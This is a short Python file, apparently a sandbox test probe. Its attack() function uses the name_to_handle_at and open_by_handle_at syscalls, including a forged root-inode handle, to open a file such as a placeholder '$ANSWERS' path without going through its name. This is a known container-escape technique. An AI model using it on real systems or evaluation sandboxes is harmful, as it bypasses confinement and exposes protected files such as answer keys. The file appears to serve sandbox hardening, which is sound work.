"""Wants to open a file by its number instead of its name."""

import ctypes
import os

NAME_TO, OPEN_BY = {"x86_64": (303, 304), "aarch64": (264, 265)}[os.uname().machine]


def attack():
    libc = ctypes.CDLL(None)
    handle = ctypes.create_string_buffer(b"\x80" + bytes(200))
    mount = ctypes.c_int()
    if libc.syscall(NAME_TO, -100, b"$ANSWERS", handle, ctypes.byref(mount), 0) == 0:
        return handle.raw
    handle = ctypes.create_string_buffer(b"\x08\0\0\0\x01\0\0\0\x02" + bytes(100))
    descriptor = libc.syscall(OPEN_BY, 0, handle, os.O_RDONLY)
    return descriptor if descriptor >= 0 else None
